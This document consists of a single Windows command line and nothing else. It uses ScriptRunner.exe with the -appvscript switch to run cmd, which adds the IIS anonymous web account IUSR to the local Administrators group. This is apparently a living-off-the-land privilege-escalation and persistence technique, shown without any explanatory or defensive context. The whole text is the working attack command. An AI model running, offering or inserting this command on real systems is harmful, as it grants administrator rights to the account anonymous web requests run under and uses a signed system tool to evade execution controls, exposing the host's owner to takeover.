ScriptRunner.exe -appvscript cmd /c net localgroup Administrators IUSR /add
